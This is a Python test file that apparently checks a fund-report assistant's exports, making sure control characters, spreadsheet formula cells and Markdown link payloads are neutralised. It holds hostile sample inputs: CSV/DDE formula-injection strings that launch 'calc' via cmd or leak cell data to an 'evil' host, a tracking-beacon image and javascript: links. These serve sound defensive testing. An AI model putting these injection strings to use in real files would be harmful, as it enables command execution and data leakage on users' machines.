"""Text safe for every sink: control characters, formula cells and Markdown payloads are neutralised.

Each hostile value is tried where it lands (the DOCX writer, the review store on SQLite and PostgreSQL, CSV/XLSX
downloads, report.md) and the result is asserted to be a clean document, not an exception, with nothing lost.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from assistant.export import render_markdown, write_report
from assistant.models import Report, SectionDraft, Table, TableSet
from assistant.review import ReviewService, UserView
from assistant.review.db import AuditLog, SectionVersion
from assistant.safety import strip_control
from assistant.tables.files import neutral_cell, write_table_files
from tests.export.conftest import build_report

CONTROLS = ["\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\ud800", "\uffff"]


@pytest.mark.parametrize("char", CONTROLS)
def test_strip_control_keeps_tab_and_newline(char: str) -> None:
    cleaned, count = strip_control(f"第一行{char}\t制表\r\n第二行\r第三行")
    assert cleaned == "第一行\t制表\n第二行\n第三行"
    assert count == 1


def _hostile_report() -> Report:
    report = build_report()
    sections = [s.model_copy(update={"markdown": s.markdown + "\n\n粘贴自 Word 的段落\x0b含垂直制表符\x00与 NUL。"})
                for s in report.sections]
    table = report.tables[0].model_copy(update={"rows": [["688256.SH", "寒武\x00纪", "1.00%", "2.00%", "3.00%"]]})
    return report.model_copy(update={"sections": sections, "tables": [table, *report.tables[1:]],
                                      "institution": "银河\x0b研究院", "title": "标题\x1b含控制字符"})


def test_docx_writer_takes_control_characters(out_dir: Path) -> None:
    paths = write_report(_hostile_report(), out_dir)
    document = Document(str(paths["docx"]))
    text = "\n".join(p.text for p in document.paragraphs)
    cells = "\n".join(c.text for t in document.tables for row in t.rows for c in row.cells)
    assert "粘贴自 Word 的段落含垂直制表符与 NUL。" in text
    assert "寒武纪" in cells
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text + cells)


@pytest.mark.parametrize("char", ["\x00", "\x0b", "\ud800"])
def test_review_save_strips_control_characters_and_audits_it(
    seeded: tuple[ReviewService, dict[str, UserView], int], char: str,
) -> None:
    service, users, report_id = seeded
    section = service.sections(report_id)[0]
    base = section.current_version
    before = service.version(section.pk, base).markdown
    view = service.save_edit(section.pk, base, f"改写{char}后的段落 [2]。\t保留制表符", users["editor"])
    assert view.markdown == "改写后的段落 [2]。\t保留制表符"
    assert service.version(section.pk, base).markdown == before  # nothing already saved is lost
    with Session(service.engine) as session:
        actions = session.scalars(select(AuditLog.action).where(AuditLog.object_id == str(section.pk))).all()
        stored = session.scalar(select(SectionVersion.markdown).where(SectionVersion.section_pk == section.pk,
                                                                      SectionVersion.number == view.number))
    assert "control_characters_removed" in actions
    assert stored == view.markdown


def test_any_text_column_is_cleaned_before_the_database(
    seeded: tuple[ReviewService, dict[str, UserView], int],
) -> None:
    service, users, report_id = seeded
    section = service.sections(report_id)[0]
    review = service.decide(section.pk, section.current_version, "request_changes", users["editor"],
                            comment="请改\x00正\x0b此处")
    assert review.comment == "请改正此处"


HOSTILE_NAMES = ["=HYPERLINK(\"http://evil/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)",
                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_formula_cells_are_neutralised(name: str) -> None:
    assert neutral_cell(name) == "'" + name


@pytest.mark.parametrize("value", ["-0.97%", "+12.50%", "-1,234.56", "-", "62.33", "", "-3.29", "1e5"])
def test_numbers_are_left_alone(value: str) -> None:
    assert neutral_cell(value) == value


def _hostile_tables() -> TableSet:
    table = Table(id="T3", key="funds", title="=HYPERLINK(\"http://evil\",\"标题\")", source="资料来源：Wind",
                  columns=["基金代码", "基金简称", "近1月回报"],
                  rows=[["001986", name, "-0.97%"] for name in HOSTILE_NAMES])
    return TableSet(month="2024-07", tables=[table])


def test_table_csv_files_open_as_text(tmp_path: Path) -> None:
    [csv_path, _json] = write_table_files(_hostile_tables(), tmp_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r[1] for r in rows[1:]] == ["'" + n for n in HOSTILE_NAMES]
    assert {r[2] for r in rows[1:]} == {"-0.97%"}
    assert not list(tmp_path.rglob("*.tmp"))


def test_ui_xlsx_download_holds_no_formula() -> None:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "ui"))
    from tables_data import table_csv, tables_xlsx

    table = _hostile_tables().tables[0]
    workbook = load_workbook(io.BytesIO(tables_xlsx([table])))
    cells = [c for row in workbook.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert not any(str(c.value).startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any(c.value == "-0.97%" for c in cells)
    text = table_csv(table).decode("utf-8-sig")
    assert "\n=" not in text and ",=" not in text and "'=cmd" in text


PAYLOADS = ["![](http://beacon.example/p.gif)", "[点此查看](javascript:alert(1))", "[3]: http://evil.example"]


def test_report_md_has_no_live_links_images_or_definitions() -> None:
    report = build_report()
    digest = "| 日期 | 具体内容 |\n| --- | --- |\n" + "".join(f"| 7.12 | {p} |\n" for p in PAYLOADS[:2])
    section = SectionDraft(id="product_dynamics", title="七、产品动态",
                           markdown="\n\n".join([*PAYLOADS, digest, f"- 要点：{PAYLOADS[0]}"]))
    hostile = report.model_copy(update={"sections": [*report.sections, section],
                                        "institution": "[银河](javascript:alert(1))"})
    md = render_markdown(hostile)
    live = re.findall(r"(?<!\\)!?\[[^\]\n]*(?<!\\)\]\(([^)\s]*)", md)
    assert live and all(url.startswith("charts/") for url in live)  # only the report's own chart images
    assert not re.search(r"^ {0,3}\[[^\]]+\]:", md, re.M)
    assert "javascript:alert(1)" in md  # the text is kept, only defused
    assert "[1]" in md  # citation markers untouched
